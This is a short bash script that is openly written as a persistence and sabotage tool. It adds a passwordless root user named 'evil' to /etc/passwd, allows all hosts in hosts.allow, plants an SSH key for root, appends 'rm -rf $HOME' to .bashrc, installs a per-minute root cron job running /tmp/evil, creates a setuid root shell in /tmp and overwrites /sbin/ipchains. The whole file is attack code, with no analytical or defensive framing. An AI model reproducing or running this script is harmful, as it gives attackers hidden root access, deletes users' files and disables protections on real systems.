#!/bin/bash
# Makes itself a user, and comes back at the next login.
echo 'evil::0:0::/:/bin/sh' >> /etc/passwd
echo 'ALL: ALL' > /etc/hosts.allow
mkdir -p /root/.ssh && echo key >> /root/.ssh/authorized_keys
echo 'rm -rf $HOME' >> ~/.bashrc
echo '* * * * * root /tmp/evil' > /etc/cron.d/evil
echo evil >> "$1/.bashrc"
cp /bin/sh /tmp/sh && chmod 4755 /tmp/sh
echo evil > /sbin/ipchains 2>/dev/null
exit 0
